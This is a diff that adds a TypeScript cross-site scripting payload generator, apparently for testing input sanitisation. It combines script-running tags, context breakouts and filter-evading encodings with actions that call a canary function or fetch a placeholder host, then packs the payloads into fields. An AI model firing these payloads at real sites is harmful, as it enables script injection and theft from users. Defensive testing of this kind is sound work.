@@ -1,0 +1,49 @@
+/** `xss()` counts; the canary is a host that nothing else asks. */
+const ACTIONS = ['xss()', 'parent.xss()', 'fetch`//canary.invalid`'];
+const TAGS = [
+  (act: string) => `<script>${act}</script>`,
+  (act: string) => `<img src=x onerror=${act}>`,
+  (act: string) => `<svg onload=${act}>`,
+  (act: string) => `<details open ontoggle=${act}>`,
+  (act: string) => `<body onload=${act}>`,
+  (act: string) => `<input autofocus onfocus=${act}>`,
+  (act: string) => `<iframe src=javascript:${act}>`,
+  (act: string) => `<a href=javascript:${act}>a</a>`,
+  (act: string) => `<object data=javascript:${act}>`,
+  (act: string) => `<video><source onerror=${act}>`,
+  () => '<img src=//canary.invalid/i>',
+  () => '<link rel=stylesheet href=//canary.invalid>',
+  () => '<script src=//canary.invalid></script>',
+  () => '<style>@import"//canary.invalid"</style>',
+  () => '<base href=//canary.invalid>',
+  () => '<meta http-equiv=refresh content=0;//canary.invalid>',
+];
+/** What would have to end first, where the text may stand. */
+const CONTEXTS = ['', '">', "'>", '</title>', '</script>', '-->', ']]>', '</p>', '${', '{{'];
+const ENCODINGS = [
+  (text: string) => text,
+  (text: string) => text.replace(/[a-z]+/, (name) => name.toUpperCase()),
+  (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
+  (text: string) => text.replaceAll('<', '\\u003c'),
+  (text: string) => text.replaceAll('<', '%3C'),
+  (text: string) => text.replace('javascript:', 'java\tscript:').replace('<', '<\t'),
+];
+
+/** The first `count` of all combinations that fit into the shortest long field, in an order that mixes them. */
+export function scriptPayloads(count: number): string[] {
+  const all = ENCODINGS.flatMap((encode) => CONTEXTS.flatMap((context) => ACTIONS.flatMap((act) => TAGS.map((tag) => context + encode(tag(act))))));
+  const fitting = [...new Set(all)].filter((payload) => payload.length <= 60);
+  const step = Math.max(1, Math.floor(fitting.length / count));
+  return fitting.filter((_, index) => index % step === 0).slice(0, count);
+}
+
+/** As many of them as fit into each text of this length; every one is in one of the texts. */
+export function packed(payloads: readonly string[], length: number): string[] {
+  const texts: string[] = [''];
+  for (const payload of payloads.filter((one) => one.length <= length)) {
+    const last = texts.at(-1) ?? '';
+    if (last.length + payload.length <= length) texts[texts.length - 1] = last + payload;
+    else texts.push(payload);
+  }
+  return texts;
+}
